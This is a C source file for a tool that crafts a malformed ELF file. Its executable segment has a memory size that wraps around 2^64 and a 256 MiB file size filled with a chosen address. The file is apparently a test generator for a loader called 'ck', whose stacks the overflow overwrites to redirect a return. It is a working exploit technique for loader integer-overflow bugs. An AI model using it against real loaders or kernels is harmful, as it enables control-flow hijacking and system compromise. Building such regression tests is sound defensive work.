// SPDX-License-Identifier: Apache-2.0
/*
 * mkwrap BASE OUT ADDR: writes OUT, a copy of the static ELF BASE whose
 * PT_GNU_STACK entry becomes an executable PT_LOAD with p_memsz near 2^64
 * (page count wrapping to one page) and p_filesz 256 MiB, backed by 2 MiB
 * of ADDR (hex) repeated at the end of the file. A loader that computes
 * the segment's buffer from the wrapped size and reads p_filesz into it
 * overruns whatever lies above the buffer with ADDR: in ck, its K stacks,
 * so ck's next return goes to ADDR (over_ck in BASE's own text).
 * Runs on the build host. Exit 0, or 1 with a message.
 */
#include <elf.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PAGE		4096UL
#define FILL		(2UL << 20)
#define VADDR		0x10000800UL	/* far from BASE's segments */

static int fail(const char *what, const char *path)
{
	fprintf(stderr, "mkwrap: %s: %s%s%s\n", path, what,
		errno ? ": " : "", errno ? strerror(errno) : "");
	return 1;
}

int main(int argc, char **argv)
{
	unsigned char *img;
	Elf64_Ehdr *eh;
	Elf64_Phdr *ph;
	uint64_t addr, off, i;
	long size;
	FILE *f;
	int k;

	if (argc != 4) {
		fprintf(stderr, "usage: mkwrap BASE OUT ADDR\n");
		return 2;
	}
	addr = strtoull(argv[3], 0, 16);
	if (!addr) {
		fprintf(stderr, "mkwrap: bad ADDR '%s'\n", argv[3]);
		return 2;
	}
	f = fopen(argv[1], "rb");
	if (!f || fseek(f, 0, SEEK_END) || (size = ftell(f)) < (long)sizeof(*eh))
		return fail("cannot read", argv[1]);
	off = (size + PAGE - 1) & ~(PAGE - 1);
	img = calloc(1, off + FILL);
	rewind(f);
	if (!img || fread(img, 1, size, f) != (size_t)size)
		return fail("cannot read", argv[1]);
	fclose(f);
	eh = (Elf64_Ehdr *)img;
	errno = 0;
	if (memcmp(eh->e_ident, ELFMAG, SELFMAG) ||
	    eh->e_phoff + eh->e_phnum * sizeof(*ph) > (uint64_t)size)
		return fail("not an ELF file", argv[1]);
	ph = (Elf64_Phdr *)(img + eh->e_phoff);
	for (k = 0; k < eh->e_phnum && ph[k].p_type != PT_GNU_STACK; k++)
		;
	if (k == eh->e_phnum)
		return fail("no PT_GNU_STACK entry to reuse", argv[1]);
	ph[k].p_type = PT_LOAD;
	ph[k].p_flags = PF_R | PF_X;
	ph[k].p_offset = off + (VADDR & (PAGE - 1));
	ph[k].p_vaddr = ph[k].p_paddr = VADDR;
	ph[k].p_filesz = 256UL << 20;
	ph[k].p_memsz = (uint64_t)-0x100;	/* + VADDR's 0x800: wraps */
	ph[k].p_align = PAGE;
	for (i = 0; i < FILL; i += 8)
		memcpy(img + off + i, &addr, 8);
	f = fopen(argv[2], "wb");
	if (!f || fwrite(img, 1, off + FILL, f) != off + FILL || fclose(f))
		return fail("cannot write", argv[2]);
	free(img);
	return 0;
}
